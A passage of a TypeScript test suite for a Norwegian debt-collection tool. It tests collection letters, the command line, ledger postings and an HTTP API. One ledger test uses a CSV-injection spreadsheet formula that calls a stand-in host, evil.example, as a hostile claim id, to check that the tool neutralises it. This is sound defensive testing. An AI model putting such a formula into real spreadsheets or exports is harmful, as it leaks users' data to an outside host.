    // Each claim's next letter, written on its first lawful day and recorded, up to three in turn:
    // the claim evaluated with it finds nothing wrong with the letter (its fields, deadline, amount
    // and, for a betalingsoppfordring, its costs). Payments, disputes, business debtors, salær and
    // standardkompensasjon come in the generated histories.
    let written = 0;
    const byStep = new Map<string, number>();
    for (const g of generateClaims(rules, { count: 1000, seed: 7 })) {
      let c = g.claim;
      for (let round = 0; round < 3; round++) {
        const next = evaluateClaim(rules, c, { asOf: g.asOf, trace: false }).nextSteps.find((n) => n.step === 'purring' || n.step === 'inkassovarsel' || n.step === 'betalingsoppfordring');
        if (!next) break;
        const date = next.feeEarliestDate !== undefined && next.feeEarliestDate > next.earliestDate ? next.feeEarliestDate : next.earliestDate;
        const due = dueLetter(rules, c, date, { creditor });
        if (due.kind !== 'letter') break;
        c = { ...c, events: [...c.events, due.letter.event!] };
        const mine = evaluateClaim(rules, c, { asOf: date, trace: false }).violations.filter((v) => v.eventIndex === c.events.length - 1);
        expect(mine, `${c.id} ${due.letter.letter} ${date}`).toEqual([]);
        written++;
        byStep.set(due.letter.letter, (byStep.get(due.letter.letter) ?? 0) + 1);
      }
    }
    expect(written).toBeGreaterThan(200); // 264 with this seed: most claims are paid, or past the letters
    expect([...byStep.keys()].sort()).toEqual(['betalingsoppfordring', 'inkassovarsel', 'purring']);
  });

  it('keeps to the costs a recorded betalingsoppfordring stated: a fee recorded afterwards for a day before it cannot be claimed', () => {
    // The betalingsoppfordring is written while the claim shows only the inkassovarsel: it states
    // costs of 38 + 113 = 151. The purring of 20.01 (38) recorded afterwards was left out of it
    // (inkassoloven § 10 annet ledd bokstav c; Lovavdelingen 31.05.2010).
    const withoutPurring = { ...claim, events: claim.events.filter((e) => e.type !== 'purring') };
    const l = buildLetter(rules, withoutPurring as never, { step: 'betalingsoppfordring', date: '2026-02-19', creditor });
    expect((l.event as { letter?: unknown }).letter).toMatchObject({ costs: '151.00', amount: '2180.59' });
    const later = { ...claim, events: [...claim.events, l.event] };
    const result = evaluateClaim(rules, later as never, { asOf: '2026-03-20' });
    expect(result.violations).toMatchObject([{ code: 'COSTS_NOT_STATED', eventIndex: 2, date: '2026-02-19', forfeited: '38.00' }]);
    // Costs 189 − 38 = 151, as the letter said; interest 06.01-20.03 (74 days) at 12,00 % / 365 on 2 000 = 48,66.
    expect(result.balance).toMatchObject({ fees: '151.00', interest: '48.66', outstanding: '2199.66' });
  });

  it('refuses a betalingsoppfordring that cannot name the creditor', () => {
    const r = cli(['letter', at('claim.json'), '--step', 'betalingsoppfordring', '--date', '2026-02-19']);
    expect(r.code).toBe(1);
    // The command line names the option that gives the creditor (the library and the API do not).
    expect(r.stderr).toContain('refused: the betalingsoppfordring must carry «Fordringshaverens navn» (inkassoloven § 10 annet ledd bokstav a): give the creditor (--creditor FILE)');
  });
});

describe('inkasso letters', () => {
  // The same day for five claims: a betalingsoppfordring due (its inkassovarsel's deadline ran out
  // yesterday), a purring due with its fee (forfall 18 days ago), a purring whose fee may only be
  // charged from 24.02.2026 (14 days after forfall 10.02), a claim paid in full, and a broken line.
  const base = { debtor: { kind: 'consumer' }, creditor: { vatRegistered: true }, collection: 'egeninkasso', principal: '2000.00', invoiceDate: '2025-12-22' };
  const claims = [
    { ...claim, id: 'F-1', debtor: { kind: 'consumer', id: 'D-1' } },
    { ...base, id: 'F-2', debtor: { kind: 'consumer', id: 'D-2' }, dueDate: '2026-02-01', events: [] },
    { ...base, id: 'F-3', dueDate: '2026-02-10', events: [] },
    { ...base, id: 'F-4', dueDate: '2026-01-05', events: [{ type: 'payment', date: '2026-01-05', amount: '2000.00' }] },
  ];
  writeFileSync(at('krav.ndjson'), `${claims.map((c) => JSON.stringify(c)).join('\n')}\n{"id": "F-5", "principal": \n`);
  writeFileSync(at('skyldnere.json'), JSON.stringify({ 'D-1': debtor, 'D-2': { name: 'Ola Hansen', address: ['Strandgata 9', '5004 Bergen'] } }));
  const index = (dir: string, date: string) => JSON.parse(readFileSync(join(dir, `letters-${date}.json`), 'utf8'));

  it('writes the letters due on a day, one file each, and an index of what it wrote, what is not due and why, and what it could not read', () => {
    const dir = at('brev');
    const r = cli(['letters', at('krav.ndjson'), '--date', '2026-02-19', '--out', dir, '--creditor', at('creditor.json'), '--debtors', at('skyldnere.json'), '--format', 'html']);
    expect(r.code, r.stderr).toBe(1); // a line could not be read; the rest is written
    expect(r.stdout.toString('utf8')).toBe(`inkasso letters: 2 letters written to ${dir} (1 betalingsoppfordring, 1 purring); 2 claims with no letter due (1 later, 1 PAID); 0 refused; 1 line not read; index ${join(dir, 'letters-2026-02-19.json')}\n`);
    expect(readdirSync(dir).sort()).toEqual(['F-1-betalingsoppfordring-2026-02-19.html', 'F-2-purring-2026-02-19.html', 'letters-2026-02-19.json']);
    const run = index(dir, '2026-02-19');
    expect(validatorFor('letters-run.schema.json')(run)).toBe(true);
    // The same letter inkasso letter writes for the claim on the day, each with the event to record.
    expect(run.written).toEqual([
      { line: 1, claimId: 'F-1', step: 'betalingsoppfordring', file: 'F-1-betalingsoppfordring-2026-02-19.html', amountDue: '2218.59', fee: '113.00', deadline: '2026-03-05', event: { type: 'betalingsoppfordring', date: '2026-02-19', deadlineDays: 14, fee: '113.00', letter: BO_CARRIED } },
      // 2 000 + 18 days (02.02-19.02) at 12,00 % / 365 = 11,84 + 38 (1/20 of 750, rounded) = 2 049,84.
      { line: 2, claimId: 'F-2', step: 'purring', file: 'F-2-purring-2026-02-19.html', amountDue: '2049.84', fee: '38.00', deadline: '2026-03-05', event: { type: 'purring', date: '2026-02-19', deadlineDays: 14, fee: '38.00', letter: { fields: ['overskrift', 'kreditor', 'hva-kravet-gjelder', 'belop', 'gebyr', 'betalingsfrist'], deadline: '2026-03-05', amount: '2049.84', costs: '38.00' } } },
    ]);
    expect(run.notDue).toEqual([{ line: 3, claimId: 'F-3', why: 'later', step: 'purring', date: '2026-02-24' }, { line: 4, claimId: 'F-4', why: 'blocked', code: 'PAID' }]);
    expect(run.refused).toEqual([]);
    expect(run.unread).toMatchObject([{ line: 5, code: 'INVALID_JSON' }]);
    expect(readFileSync(join(dir, 'F-2-purring-2026-02-19.html'), 'utf8')).toContain('<address class="to">Ola Hansen<br>Strandgata 9<br>5004 Bergen</address>');
    const one = buildLetter(rules, { ...claims[0] } as never, { step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor });
    expect(readFileSync(join(dir, 'F-1-betalingsoppfordring-2026-02-19.html'), 'utf8')).toBe(letterHtml(one));
    // With the letters' events recorded, the same day has no letter due for those claims.
    const recorded = claims.slice(0, 2).map((c, i) => ({ ...c, events: [...c.events, run.written[i].event] }));
    writeFileSync(at('krav-sendt.ndjson'), recorded.map((c) => JSON.stringify(c)).join('\n'));
    const again = cli(['letters', at('krav-sendt.ndjson'), '--date', '2026-02-19', '--out', at('brev-igjen'), '--creditor', at('creditor.json')]);
    expect(again.code, again.stderr).toBe(0);
    // F-1's next step is legal collection, once the betalingsoppfordring's deadline has run out; F-2's
    // is a second purring or an inkassovarsel, once the first purring's deadline has.
    expect(index(at('brev-igjen'), '2026-02-19')).toMatchObject({ written: [], notDue: [{ claimId: 'F-1', why: 'no-letter-step', step: 'rettslig_inndriving' }, { claimId: 'F-2', why: 'later' }] });
  });

  it('lists a letter\'s warnings in the index: a fee that rests on one source', () => {
    writeFileSync(at('krav-2020.ndjson'), `${JSON.stringify({ ...base, id: 'S-1', invoiceDate: '2020-09-17', dueDate: '2020-10-01', events: [] })}\n`);
    const r = cli(['letters', at('krav-2020.ndjson'), '--date', '2020-10-20', '--out', at('brev-2020'), '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.toString('utf8')).toMatch(/^inkasso letters: 1 letter written to \S+ \(1 purring\), 1 of them with warnings \(in the index\); 0 claims/);
    const run = index(at('brev-2020'), '2020-10-20');
    expect(validatorFor('letters-run.schema.json')(run)).toBe(true);
    expect(run.written).toMatchObject([{ claimId: 'S-1', step: 'purring', fee: '35.00', warnings: [{ code: 'VALUE_UNCONFIRMED', rule: 'gebyrer.purring-andel' }] }]);
    expect(JSON.parse(readFileSync(join(at('brev-2020'), 'S-1-purring-2020-10-20.json'), 'utf8')).warnings).toEqual(run.written[0].warnings);
  });

  it('refuses, and says why, a letter that cannot name its creditor or has no address for its debtor', () => {
    const dir = at('brev-24');
    const r = cli(['letters', at('krav.ndjson'), '--date', '2026-02-24', '--out', dir, '--debtors', at('skyldnere.json'), '--format', 'json', '--quiet']);
    expect(r.code).toBe(1);
    const run = index(dir, '2026-02-24');
    expect(validatorFor('letters-run.schema.json')(run)).toBe(true);
    expect(run.written.map((w: { claimId: string }) => w.claimId)).toEqual(['F-2']);
    expect(run.refused).toEqual([
      { line: 1, claimId: 'F-1', step: 'betalingsoppfordring', reason: 'missing-content', message: 'the betalingsoppfordring must carry «Fordringshaverens navn» (inkassoloven § 10 annet ledd bokstav a): give the creditor (--creditor FILE)' },
      { line: 3, claimId: 'F-3', step: 'purring', reason: 'no-address', message: 'no name and address is given for a claim without debtor.id' },
    ]);
    expect(r.stderr).toContain('line 3 (F-3): refused:');
  });

  it('refuses the PDF of a debtor whose name it cannot print, and writes the others', () => {
    const dir = at('brev-kinesisk');
    writeFileSync(at('skyldnere-kinesisk.json'), JSON.stringify({ 'D-1': debtor, 'D-2': { name: '王小明', address: ['Strandgata 9', '5004 Bergen'] } }));
    const r = cli(['letters', at('krav.ndjson'), '--date', '2026-02-19', '--out', dir, '--creditor', at('creditor.json'), '--debtors', at('skyldnere-kinesisk.json'), '--quiet']);
    expect(r.code, r.stderr).toBe(1);
    const run = index(dir, '2026-02-19');
    expect(validatorFor('letters-run.schema.json')(run)).toBe(true);
    expect(run.written.map((w: { claimId: string }) => w.claimId)).toEqual(['F-1']);
    expect(run.refused).toEqual([{ line: 2, claimId: 'F-2', step: 'purring', reason: 'cannot-print', message: 'the PDF cannot print "王" (U+738B) in the debtor\'s name: the fonts the PDF can embed do not have it; the letter as HTML has it' }]);
    expect(readdirSync(dir).sort()).toEqual(['F-1-betalingsoppfordring-2026-02-19.pdf', 'letters-2026-02-19.json']);
    expect(r.stderr).toContain('line 2 (F-2): refused: the PDF cannot print "王"');
    // A creditor the PDF cannot print would have every letter refused: said at once, nothing written.
    writeFileSync(at('creditor-hebraisk.json'), JSON.stringify({ ...creditor, address: ['Storgata 1', 'תל אביב'] }));
    const c = cli(['letters', at('krav.ndjson'), '--date', '2026-02-19', '--out', at('brev-kreditor'), '--creditor', at('creditor-hebraisk.json'), '--quiet']);
    expect(c.code, c.stderr).toBe(2);
    expect(c.stderr).toBe(`${at('creditor-hebraisk.json')}: /address/1: the PDF cannot print "ת" (U+05EA) in line 2 of the creditor's address: it is written right to left, which the PDF cannot lay out; no PDF letter could be written (--format html)\n`);
    expect(existsSync(at('brev-kreditor'))).toBe(false);
  });

  it('stops at once on SIGTERM: the letters written so far are whole, and neither an index nor a temporary file is left', async () => {
    // The claims come through a named pipe kept open, so the run is surely under way when stopped.
    const fifo = at('krav.fifo');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const tmp = at('tmp-letters');
    mkdirSync(tmp);
    const dir = at('brev-stopp');
    const child = spawn(process.execPath, [bin, 'letters', fifo, '--date', '2026-02-19', '--out', dir, '--creditor', at('creditor.json'), '--format', 'html'], { cwd: root, env: { ...process.env, TMPDIR: tmp } });
    let stderr = '';
    child.stderr.on('data', (d) => { stderr += d; });
    const writer = createWriteStream(fifo);
    writer.on('error', () => {});
    writer.write(`${JSON.stringify(claims[0])}\n`);
    await expect.poll(() => existsSync(join(dir, 'F-1-betalingsoppfordring-2026-02-19.html')), { timeout: 20_000, interval: 50 }).toBe(true);
    const closed = new Promise<number | null>((r) => child.on('close', r));
    child.kill('SIGTERM');
    // The run says it stopped; the pipe is then closed, for Node ends a process only once its
    // read of the pipe (on a thread of libuv's pool) has returned.
    await expect.poll(() => stderr, { timeout: 20_000, interval: 50 }).toContain('SIGTERM: stopped');
    writer.destroy();
    const code = await closed;
    expect(code).toBe(130);
    expect(stderr).toContain(`inkasso letters: SIGTERM: stopped; the letters written so far are in ${dir}, whole, but no index`);
    expect(readdirSync(dir)).toEqual(['F-1-betalingsoppfordring-2026-02-19.html']);
    // (Node 22 and later keep compiled code in TMPDIR too: node-compile-cache.)
    expect(readdirSync(tmp).filter((f) => f.startsWith('inkasso-'))).toEqual([]);
  });

  it('refuses bad options and files before it writes anything (exit 2)', () => {
    writeFileSync(at('skyldnere-feil.json'), JSON.stringify({ 'D-1': { name: 'Kari Nordmann', nationalId: '01010112345' } }));
    writeFileSync(at('en-fil'), 'x');
    for (const [args, message] of [
      [['--date', '2026-02-19'], 'letters needs --out DIR, the folder the letters are written to'],
      [['--date', '2026-02-19', '--out', at('en-fil')], `--out ${at('en-fil')}: is a file, not a folder`],
      [['--date', '2026-02-19', '--out', at('x'), '--format', 'docx'], '--format docx: must be pdf, html or json'],
      [['--date', '2026-02-19', '--out', at('x'), '--step', 'rettslig_inndriving'], '--step rettslig_inndriving: must be one of purring, inkassovarsel, betalingsoppfordring'],
      [['--date', '2026-02-19', '--out', at('x'), '--debtors', at('skyldnere-feil.json')], `${at('skyldnere-feil.json')}: /D-1/nationalId: unknown property (allowed: name, address)`],
      [['--date', '2099-01-01', '--out', at('x')], '--date 2099-01-01: the rules are reviewed against the law through 2026-12-31 (horisont.yaml), not for 2099-01-01; move the review horizon after checking every rule for the period [RULES_NOT_REVIEWED]'],
    ] as const) {
      const r = cli(['letters', at('krav.ndjson'), ...args]);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr.trim()).toBe(message);
    }
    expect(readdirSync(work)).not.toContain('x');
    // A folder that cannot be made is refused at once. Under /proc, Node's own recursive mkdir
    // never returned (100 % of a core): the run hung before its first letter.
    for (const [out, message] of [
      [at('en-fil/brev/i-dag'), `--out ${at('en-fil/brev/i-dag')}: cannot make the folder ${at('en-fil/brev')}: a part of the path is a file`],
      ...(process.platform === 'linux' ? [['/proc/inkasso-brev/i-dag', '--out /proc/inkasso-brev/i-dag: cannot make the folder /proc/inkasso-brev: the system allows no folder there']] : []),
    ] as const) {
      const r = cli(['letters', at('krav.ndjson'), '--date', '2026-02-19', '--out', out]);
      expect(r.code, out).toBe(2);
      expect(r.stderr.trim()).toBe(message);
    }
    // No room for its temporary files: refused before the folder is made.
    if (process.platform === 'linux') {
      const r = spawnSync(process.execPath, [bin, 'letters', at('krav.ndjson'), '--date', '2026-02-19', '--out', at('x')], { cwd: root, timeout: 120_000, encoding: 'utf8', env: { ...process.env, TMPDIR: '/proc/inkasso-tmp' } });
      expect(r.status).toBe(2);
      expect(r.stderr).toMatch(/^inkasso letters: cannot make a temporary folder in \/proc\/inkasso-tmp \(set TMPDIR to a folder with room\)/);
      expect(readdirSync(work)).not.toContain('x');
    }
  });
});

describe('inkasso ledger', () => {
  it('writes balanced postings as CSV lines and JSON', () => {
    const csv = cli(['ledger', at('claim.json'), '--as-of', '2026-02-19']);
    expect(csv.code, csv.stderr).toBe(0);
    const lines = csv.stdout.toString('utf8').trim().split('\n');
    expect(lines[0]).toBe('claim_id,date,account,vat_code,debit,credit,text,event_index');
    const sum = (col: number) => lines.slice(1).reduce((n, l) => n + signedOre(l.split(',')[col] ?? ''), 0);
    expect(sum(4)).toBe(sum(5));
    const json = JSON.parse(cli(['ledger', at('claim.json'), '--as-of', '2026-02-19', '--format', 'json']).stdout.toString('utf8'));
    expect(json.balances['1500']).toBe(json.outstanding);
    expect(json.warnings).toEqual([]);
    expect(csv.stderr).toBe('');
  });

  it('says what the postings rest on that has one source, and not what only a next step read', () => {
    // The README's example: its inkassovarsel's deadline ends on 1 May, and that it is not moved
    // rests on one source; the six months of inkassoloven § 11, which only the next step reads, post nothing.
    const example = join(root, 'examples/claim-egeninkasso.json');
    const evaluated = JSON.parse(cli(['evaluate', example, '--as-of', '2024-07-01', '--no-trace']).stdout.toString('utf8'));
    expect(evaluated.warnings.map((w: { rule: string }) => w.rule)).toEqual(['fristforskyvning.inkassovarsel', 'frister.rettslig-inndriving-innen']);
    const r = cli(['ledger', example, '--as-of', '2024-07-01', '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    const ledger = JSON.parse(r.stdout.toString('utf8'));
    expect(ledger.warnings).toEqual([evaluated.warnings[0]]);
    expect(r.stderr).toBe(`inkasso ledger: warning: VALUE_UNCONFIRMED: ${evaluated.warnings[0].message}\n`);
  });

  it('writes a claim id a spreadsheet would run as a formula with a \' before it in the CSV, and as given in the JSON', () => {
    // Before, the id went into the CSV as written: opened in a spreadsheet, the first cell was a
    // live HYPERLINK (CSV injection).
    const hostile = '=HYPERLINK("http://evil.example/?"&A2,"Se her")';
    writeFileSync(at('formula.json'), JSON.stringify({ ...claim, id: hostile }));
    const csv = cli(['ledger', at('formula.json'), '--as-of', '2026-02-19']);
    expect(csv.code, csv.stderr).toBe(0);
    const rows = csv.stdout.toString('utf8').trim().split('\n').slice(1);
    expect(rows.length).toBeGreaterThan(2);
    for (const row of rows) expect(row.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A2,""Se her"")",`), row).toBe(true);
    // Inside a text the id does not start the cell, and no spreadsheet runs it.
    expect(rows[0]).toContain(',"Faktura =HYPERLINK(');
    const json = JSON.parse(cli(['ledger', at('formula.json'), '--as-of', '2026-02-19', '--format', 'json']).stdout.toString('utf8'));
    expect(json.claimId).toBe(hostile);
    for (const [id, cell] of [['+47 22 00 00 00', "'+47 22 00 00 00"], ['-12', "'-12"], ['@SUM(A1)', "'@SUM(A1)"], ['F-12', 'F-12']] as const) {
      const first = ledgerCsv(buildLedger(rules, { ...claim, id } as never, '2026-02-19')).split('\n')[1]!;
      expect(first.startsWith(`${cell},2025-`), first).toBe(true);
    }
  });

  it('posts to the accounts of --accounts, and refuses a chart it cannot use (exit 2)', () => {
    writeFileSync(at('kontoplan.json'), JSON.stringify({ receivable: '1510', fees: '3910' }));
    const json = JSON.parse(cli(['ledger', at('claim.json'), '--as-of', '2026-02-19', '--format', 'json', '--accounts', at('kontoplan.json')]).stdout.toString('utf8'));
    expect(json.postings[0]).toMatchObject({ debit: '1510', credit: '3000' });
    expect(json.balances['1510']).toBe(json.outstanding);
    for (const [file, body, message] of [
      ['k-key.json', { recievable: '1510' }, "/recievable: unknown account (allowed: receivable, sales, fees, interest, bank, loss, recovery, overpaid, timeBarred, noVatCode; did you mean 'receivable'?)"],
      ['k-number.json', { fees: 3910 }, '/fees: an account number as a string, such as "1500"'],
      ['k-text.json', { fees: '39 10' }, '/fees: an account number as a string, such as "1500"'],
      ['k-list.json', ['1510'], `a chart of accounts is a JSON object such as ${JSON.stringify({ receivable: '1500', sales: '3000', fees: '3900', interest: '8055', bank: '1920', loss: '7830', recovery: '7820', overpaid: '2900', timeBarred: '7835', noVatCode: '7' })}`],
    ] as const) {
      writeFileSync(at(file), JSON.stringify(body));
      const r = cli(['ledger', at('claim.json'), '--as-of', '2026-02-19', '--accounts', at(file)]);
      expect(r.code, file).toBe(2);
      expect(r.stderr.trim()).toBe(`${at(file)}: ${message}`);
    }
    // Every problem of a chart at once (only the first was said), each on its line.
    writeFileSync(at('k-two.json'), JSON.stringify({ fee: '3910', extra: '1', interest: 8055 }));
    const two = cli(['ledger', at('claim.json'), '--as-of', '2026-02-19', '--accounts', at('k-two.json')]);
    expect(two.code).toBe(2);
    const allowed = 'receivable, sales, fees, interest, bank, loss, recovery, overpaid, timeBarred, noVatCode';
    expect(two.stderr.trim().split('\n').map((l) => l.replace(`${at('k-two.json')}: `, ''))).toEqual([
      `/fee: unknown account (allowed: ${allowed}; did you mean 'fees'?)`,
      `/extra: unknown account (allowed: ${allowed})`,
      '/interest: an account number as a string, such as "1500"',
    ]);
  });

  it('keeps the receivable equal to what is owed, and every posting balanced, over the golden corpus and 2 000 generated claims', () => {
    const claims = [
      ...readGoldenCases().cases.filter((c) => !c.case.expected.error).map((c) => ({ claim: c.case.claim, asOf: c.case.as_of })),
      ...[...generateClaims(rules, { count: 2000, seed: 12 })].map((g) => ({ claim: g.claim, asOf: g.asOf })),
    ];
    let checked = 0;
    for (const { claim: c, asOf } of claims) {
      const l = buildLedger(rules, c, asOf);
      const total = Object.values(l.balances).reduce((n, v) => n + signedOre(v), 0);
      expect(total, c.id).toBe(0);
      if (!l.writeOff) expect(l.balances['1500'] ?? '0.00', c.id).toBe(l.outstanding);
      checked++;
    }
    expect(checked).toBeGreaterThan(2000);
  });

  it('posts interest rounded once in lines that add up to the total, none negative, also where the periods rounded one by one come to more', () => {
    // 0.16 kr over three rate periods: 0.51 + 0.75 + 0.17 øre exact, 0.01 + 0.01 + 0.00 rounded one
    // by one, but 0.01 kr in all (rounded once). The rounding put on the last line made it -0.01,
    // and the ledger (and a replay with --ledger) stopped with an internal error.
    const tiny = { id: 'SMÅ', debtor: { kind: 'business' }, creditor: { vatRegistered: false }, collection: 'egeninkasso', principal: '0.16', invoiceDate: '2022-01-30', dueDate: '2022-02-13', events: [{ type: 'betalingsoppfordring', date: '2022-06-09', fee: '155.76' }] };
    writeFileSync(at('tiny.json'), JSON.stringify(tiny));
    const r = cli(['ledger', at('tiny.json'), '--as-of', '2023-02-05', '--format', 'json']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const l = JSON.parse(r.stdout.toString('utf8'));
    const interest = l.postings.filter((p: { credit: string }) => p.credit === '8055');
    expect(interest.map((p: { date: string; amount: string }) => [p.date, p.amount])).toEqual([['2022-06-30', '0.01']]);
    expect(l.balances['1500']).toBe(l.outstanding);
    writeFileSync(at('tiny.ndjson'), `${JSON.stringify(tiny)}\n`);
    const replay = cli(['replay', at('tiny.ndjson'), '--as-of', '2023-02-05', '--ledger', at('tiny.csv'), '--out', at('tiny-f.ndjson'), '--quiet']);
    expect(replay.code, replay.stderr).toBeLessThan(2);
    expect(readFileSync(at('tiny.csv'), 'utf8')).toContain('SMÅ,2022-06-30,8055,7,,0.01,');
  });

  it('keeps every posting positive and the books balanced over 3 000 random claims (fees above their caps, payments with designations, disputes in any order)', () => {
    for (const { claim: c, asOf } of fc.sample(claimArb, { numRuns: 3000, seed: 1 })) {
      const l = buildLedger(rules, c, asOf);
      for (const p of l.postings) expect(signedOre(p.amount), `${JSON.stringify(c)} ${asOf}`).toBeGreaterThan(0);
      expect(Object.values(l.balances).reduce((n, v) => n + signedOre(v), 0)).toBe(0);
      expect(l.balances['1500'] ?? '0.00').toBe(l.outstanding);
    }
  });

  it('writes the postings of a whole replay with --ledger', () => {
    expect(cli(['generate', '--count', '200', '--seed', '3', '--out', at('g.ndjson')]).code).toBe(0);
    const r = cli(['replay', at('g.ndjson'), '--ledger', at('ledger.csv'), '--out', at('f.ndjson'), '--workers', '1', '--quiet']);
    expect(r.code).toBeLessThan(2);
    const lines = readFileSync(at('ledger.csv'), 'utf8').trim().split('\n');
    expect(lines[0]).toBe('claim_id,date,account,vat_code,debit,credit,text,event_index');
    expect(new Set(lines.slice(1).map((l) => l.split(',')[0])).size).toBe(200);
  });
});

describe('the HTTP API', () => {
  const api = createApi({ versions: folderVersions({ rulesDir: join(root, 'rules') }), today: () => '2026-02-19', uptime: () => 1, log: () => {}, validateResponses: true });
  const post = (path: string, body: unknown) => api.fetch(new Request(`http://x/api/v1${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }));

  it('POST /letters gives the letter as JSON, HTML or PDF, and 422 LETTER_REFUSED when it is not lawful', async () => {
    const json = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor });
    expect(json.status).toBe(200);
    expect(await json.json()).toMatchObject({ fee: { amount: '113.00' }, deadline: '2026-03-05', debtor, event: { type: 'betalingsoppfordring', date: '2026-02-19', deadlineDays: 14, fee: '113.00' }, warnings: [] });
    // A letter whose fee rests on one source says so, as the command line does (the claim is due exactly 01.10.2020).
    const s1 = await post('/letters', { claim: { ...claim, id: 'S-1', invoiceDate: '2020-09-17', dueDate: '2020-10-01', events: [] }, step: 'purring', date: '2020-10-20' });
    expect((await s1.json()).warnings).toMatchObject([{ code: 'VALUE_UNCONFIRMED', rule: 'gebyrer.purring-andel', validFrom: '2020-10-01' }]);
    const html = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor, format: 'html' });
    expect(await html.text()).toContain('<address class="to">Kari Nordmann<br>Bakkeveien 3<br>0560 Oslo</address>');
    const badDebtor = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor: { name: 'Kari Nordmann', nationalId: '01010112345' } });
    expect(badDebtor.status).toBe(400);
    expect(await badDebtor.json()).toMatchObject({ code: 'UNKNOWN_FIELD', pointer: '/debtor/nationalId' });
    // A name of spaces would print an empty address block: refused, as the command line refuses it.
    const blankName = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor: { name: '   ', address: ['Bakkeveien 3'] } });
    expect(blankName.status).toBe(400);
    expect(await blankName.json()).toMatchObject({ code: 'INVALID_FIELD', pointer: '/debtor/name', message: '/debtor/name: name must have at least two characters that are not spaces, and no line breaks, tabs or other control characters' });
    const brokenLine = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor: { name: 'Kari Nordmann', address: ['Bakkeveien 3', '0560 Oslo\nNorge'] } });
    expect(await brokenLine.json()).toMatchObject({ status: 400, code: 'INVALID_FIELD', pointer: '/debtor/address/1', message: '/debtor/address/1: address[1] must have a character that is not a space, and no line breaks, tabs or other control characters' });
    const badAccount = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19', creditor: { ...creditor, account: '1234 56 78903' } });
    expect(await badAccount.json()).toMatchObject({ code: 'INVALID_FIELD', pointer: '/creditor/account', message: '/creditor/account: account must be a Norwegian account number, eleven digits (1234.56.78903)' });
    const pdf = await post('/letters', { claim, step: 'purring', date: '2026-02-19', format: 'pdf' });
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(await pdf.arrayBuffer()).subarray(0, 5).toString()).toBe('%PDF-');
    // A name the PDF would print as boxes: 400 at the field, as HTML it is written.
    const cjk = await post('/letters', { claim, step: 'purring', date: '2026-02-19', debtor: { name: '王小明' }, format: 'pdf' });
    expect(cjk.status).toBe(400);
    expect(await cjk.json()).toMatchObject({ code: 'INVALID_FIELD', pointer: '/debtor/name', message: '/debtor/name: the PDF cannot print "王" (U+738B) in the debtor\'s name: the fonts the PDF can embed do not have it; the letter as HTML has it (format "html")' });
    expect((await post('/letters', { claim, step: 'purring', date: '2026-02-19', debtor: { name: '王小明' }, format: 'html' })).status).toBe(200);
    const refused = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-18', creditor });
    expect(refused.status).toBe(422);
    expect(await refused.json()).toMatchObject({ code: 'LETTER_REFUSED', pointer: '/date', message: expect.stringMatching(/^a betalingsoppfordring is not lawful on 2026-02-18: /) });
    const unknown = await post('/letters', { claim, step: 'rettslig_inndriving', date: '2026-02-19', creditor });
    expect(await unknown.json()).toMatchObject({ code: 'LETTER_REFUSED', message: 'no letter step rettslig_inndriving governs 2026-02-19 (rules/steps/); the letters are purring, inkassovarsel, betalingsoppfordring, kravspesifikasjon' });
    const early = await post('/letters', { claim, step: 'inkassovarsel', date: '2025-01-02', creditor });
    expect(await early.json()).toMatchObject({ code: 'LETTER_REFUSED', message: expect.stringMatching(/^an inkassovarsel is not lawful on 2025-01-02: STEP_TOO_EARLY: /) });
    const noCreditor = await post('/letters', { claim, step: 'betalingsoppfordring', date: '2026-02-19' });
    // Said in the API's terms: the pointer names the field, and no command-line option is offered.
    expect(await noCreditor.json()).toMatchObject({ code: 'LETTER_REFUSED', pointer: '/creditor', message: 'the betalingsoppfordring must carry «Fordringshaverens navn» (inkassoloven § 10 annet ledd bokstav a): give the creditor' });
  });

  it('POST /letters/due gives the letters due on a day for many claims, as inkasso letters finds them', async () => {
    const claims = readFileSync(at('krav.ndjson'), 'utf8').split('\n').slice(0, 4).map((l) => JSON.parse(l));
    const r = await post('/letters/due', { claims, date: '2026-02-19', creditor, debtors: { 'D-1': debtor } });
    expect(r.status).toBe(200);
    const body = await r.json();
    expect(body.due.map((d: { index: number; step: string }) => [d.index, d.step])).toEqual([[0, 'betalingsoppfordring']]);
    expect(body.due[0].letter).toMatchObject({ amountDue: '2218.59', debtor, event: { type: 'betalingsoppfordring', date: '2026-02-19', deadlineDays: 14, fee: '113.00' } });
    // The letter is the one POST /letters gives for the claim, the step and the day.
    const one = await (await post('/letters', { claim: claims[0], step: 'betalingsoppfordring', date: '2026-02-19', creditor, debtor })).json();
    expect(body.due[0].letter).toEqual(one);
    expect(body.notDue).toEqual([{ index: 2, claimId: 'F-3', why: 'later', step: 'purring', date: '2026-02-24' }, { index: 3, claimId: 'F-4', why: 'blocked', code: 'PAID' }]);
    // D-2 has no address in this request: its purring is refused, not sent unaddressed.
    expect(body.refused).toEqual([{ index: 1, claimId: 'F-2', step: 'purring', reason: 'no-address', message: 'no name and address is given for debtor D-2' }]);
    const bad = await post('/letters/due', { claims: [claims[0], { ...claims[1], principal: '-1' }], date: '2026-02-19' });
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ pointer: '/claims/1/principal' });
    const step = await post('/letters/due', { claims, date: '2026-02-19', step: 'rettslig_inndriving' });
    expect(await step.json()).toMatchObject({ status: 400, code: 'INVALID_FIELD', pointer: '/step', message: 'step must be one of purring, inkassovarsel, betalingsoppfordring, not "rettslig_inndriving"' });
    // More than 20 000 events in all: refused before a claim is checked.
    const many = { ...claims[3], events: Array.from({ length: 20_001 }, () => ({ type: 'payment', date: '2026-01-05', amount: '0.01' })) };
